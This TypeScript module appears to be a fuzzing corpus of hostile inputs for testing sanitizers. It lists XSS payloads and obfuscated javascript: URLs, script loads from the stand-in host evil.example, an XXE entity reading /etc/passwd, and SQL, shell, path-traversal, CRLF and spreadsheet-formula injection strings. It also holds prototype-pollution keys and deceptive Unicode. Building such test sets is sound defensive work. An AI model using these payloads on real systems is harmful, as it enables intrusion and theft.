const each = <T>(list: readonly T[], write: (item: T) => string | string[]) => list.flatMap(write);

const HANDLERS = [
	...['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle'],
	...['onbegin', 'onpointerenter', 'onbeforeinput'],
] as const;
const ELEMENTS = [
	...[
		'img src=x',
		'svg',
		'body',
		'input autofocus',
		'details open',
		'video',
		'audio src',
		'iframe',
	],
	...['marquee', 'select autofocus', 'math', 'object data=x'],
] as const;
const DO = 'alert(1)';

const scripts = [
	...[`<script>${DO}</script>`, `<ScRiPt>${DO}</sCrIpT>`, `<script\n>${DO}</script\t>`],
	...[`<script/x>${DO}</script/x>`, `<<script>${DO}//<</script>`, `<script src=//evil.example>`],
	...[`</title><script>${DO}</script>`, `</textarea><script>${DO}</script>`, `--><script>${DO}`],
	...[`"><script>${DO}</script>`, `'><script>${DO}</script>`, `\`><script>${DO}</script>`],
	...[`]]><script>${DO}</script>`, `<script type=module>import('//evil.example')</script>`],
	...[`<noscript><p title="</noscript><img src=x onerror=${DO}>">`, `\\u003cscript\\u003e${DO}`],
	...[`&lt;script&gt;${DO}&lt;/script&gt;`, `&#60;script&#62;${DO}`, `%3Cscript%3E${DO}`],
	...[
		`＜script＞${DO}＜/script＞`,
		`+ADw-script+AD4-${DO}`,
		`<scr<script>ipt>${DO}</scr</script>ipt>`,
	],
];
const handlers = each(ELEMENTS, (element) =>
	HANDLERS.map(
		(handler, at) =>
			[`<${element} ${handler}=${DO}>`, `<${element}/${handler}="${DO}"/>`][at % 2] ?? '',
	),
);

const SCHEMES = ['javascript', 'data', 'vbscript'] as const;
const PAYLOADS = {
	javascript: DO,
	data: `text/html,<script>${DO}</script>`,
	vbscript: 'MsgBox(1)',
};
/** Addresses that run something, plainly and in every disguise that a browser sees through. */
export const HOSTILE_URLS: readonly string[] = each(SCHEMES, (scheme) => {
	const payload = PAYLOADS[scheme];
	const [first = '', ...rest] = scheme;
	const tail = rest.join('');
	return [
		...[`${scheme}:${payload}`, `${scheme.toUpperCase()}:${payload}`, ` ${scheme}:${payload}`],
		...[`\t${scheme}:${payload}`, `\u0001${scheme}:${payload}`, `${first}\n${tail}:${payload}`],
		...[`${first}\t${tail}:${payload}`, `${scheme}\r:${payload}`, `${scheme}&colon;${payload}`],
		...[
			`&#${first.charCodeAt(0)};${tail}:${payload}`,
			`&#x${first.charCodeAt(0).toString(16)};${tail}:${payload}`,
		],
		...[`%${first.charCodeAt(0).toString(16)}${tail}:${payload}`, `${scheme}%3A${payload}`],
		...[`\u200b${scheme}:${payload}`, `\ufeff${scheme}:${payload}`, `${scheme}\uff1a${payload}`],
		...[`view-source:${scheme}:${payload}`, `feed:${scheme}:${payload}`, `//${scheme}:${payload}`],
	];
}).concat(
	...['file:///etc/passwd', 'blob:https://evil.example/x', 'filesystem:http://x/', 'about:blank'],
	...['intent://x#Intent;end', 'jar:http://x!/', 'ws://evil.example', 'ftp://evil.example/x'],
	...[
		'//evil.example',
		'\\\\evil.example',
		'/\\evil.example',
		'http:evil',
		'https://',
		'http://[::1',
	],
	...['https:///\u0000', 'mhtml:http://x', 'data:;base64,PHNjcmlwdD4=', 'ms-word:ofe|u|http://x'],
);

const markup = [
	...each(['set', 'animate', 'use', 'foreignObject', 'image', 'handler'], (tag) => [
		`<svg><${tag} href="javascript:${DO}"/></svg>`,
		`<svg><${tag} attributeName=href to=javascript:${DO}/></svg>`,
	]),
	...each(['mi', 'mtext', 'annotation-xml', 'maction', 'mglyph', 'semantics'], (tag) => [
		`<math><${tag} xlink:href="javascript:${DO}">x</${tag}></math>`,
		`<math><mtext><table><${tag}><style><img src=x onerror=${DO}>`,
	]),
	...each(
		[
			'template',
			'slot',
			'xmp',
			'plaintext',
			'noembed',
			'frameset',
			'base',
			'link',
			'meta',
			'embed',
		],
		(tag) => [
			`<${tag}><img src=x onerror=${DO}></${tag}>`,
			`<${tag} href=javascript:${DO} srcdoc="<script>">`,
		],
	),
	...[
		`<style>@import '//evil.example'</style>`,
		`<style>*{background:url(javascript:${DO})}</style>`,
	],
	...[
		`<p style="width:expression(${DO})">`,
		`<p style=position:fixed;inset:0>`,
		`</style><img src=x>`,
	],
	...[`<meta http-equiv=refresh content="0;url=javascript:${DO}">`, `<form action=//evil.example>`],
	...[
		`<button formaction=javascript:${DO}>`,
		`<a href="&#1;javascript:${DO}">x</a>`,
		`<!--[if IE]>`,
	],
	...[`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`, `<![CDATA[`],
	...[
		`{{constructor.constructor('${DO}')()}}`,
		`\${${DO}}`,
		`{@html '<img>'}`,
		`<%= 7*7 %>`,
		`#{7*7}`,
	],
	...[
		`[x](javascript:${DO})`,
		`![x](data:text/html,x)`,
		`[[x]]`,
		`\u0060\u0060\u0060`,
		`{$where: '1'}`,
	],
];
const commands = [
	...[
		`'; drop table members; --`,
		`" or ""="`,
		`1; select pg_sleep(9)`,
		`$$; commit; $$`,
		`\\'; --`,
	],
	...[
		`%' or 1=1 --`,
		`_%_%_%`,
		`\\\\`,
		`a' || 'b`,
		`:*`,
		`!!`,
		`& | ! ( )`,
		`<->`,
		`'a' & `,
		`((((`,
	],
	...[
		`../../../../etc/passwd`,
		`..%2f..%2f`,
		`C:\\Windows`,
		`x\r\nSet-Cookie: a=b`,
		`a\r\n\r\n<html>`,
	],
	...[
		`=cmd|'/c calc'!A1`,
		`+SUM(1)`,
		`@import`,
		`-1+1`,
		`; ls -la`,
		`$(id)`,
		'`id`',
		`| cat`,
		`\u001b[2J`,
	],
];
const keys = [
	...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then'],
	...['__defineGetter__', 'constructor.prototype', '__proto__.polluted', '["__proto__"]', 'null'],
	...['undefined', 'NaN', 'Infinity', 'true', '[object Object]', '{}', '[]', '0', '-0', '1e309'],
];
const unseen = [
	...[
		'\u202eevil\u202c',
		'\u2066a\u2069',
		'\u200f\u200e',
		'a\u200bb',
		'a\u200db',
		'\u2060',
		'\ufeffx',
	],
	...[
		'\u00ad',
		'\u034f',
		'\u115f',
		'\u3164',
		'\u180e',
		'\ufff9a\ufffb',
		'\u{e0041}\u{e007f}',
		'\u2028',
	],
	...[
		'\u2029',
		'\u0085',
		'\u000b',
		'\u000c',
		'\u001f',
		'\u007f',
		'\u0080',
		'\uffff',
		'\ufdd0',
		'\ue000',
	],
	...[
		`Z${'\u0300'.repeat(70)}`,
		'𝕒𝕕𝕞𝕚𝕟',
		'аdmin',
		'ａｄｍｉｎ',
		'ﷺ',
		'👩‍👩‍👧‍👦',
		'🏴‍☠️',
		'\u{10ffff}',
		'İı',
		'ß',
	],
];
const broken = [
	...[
		'\u0000',
		'a\u0000b',
		'\u0000<script>',
		'\ud800',
		'\udc00',
		'a\ud800',
		'\udfffb',
		'\ud83d',
		'\udc00\ud800',
	],
	...[`<img src=x onerror=${DO}>\u0000`, '\ud800\ud800', 'ok\u0000'],
];
const lengths = ['a', '<', '&', '\u202e', '世', '👩‍👩‍👧', '\u0301', ' .', '\n'].flatMap((piece) =>
	[81, 2001, 20_001, 250_000].map((times) => piece.repeat(times)),
);

/** Texts that somebody hostile might send, by what they are after. */
export const HOSTILE_TEXTS: Readonly<Record<string, readonly string[]>> = {
	...{ scripts, handlers, urls: HOSTILE_URLS, markup, commands, keys, unseen, broken, lengths },
};
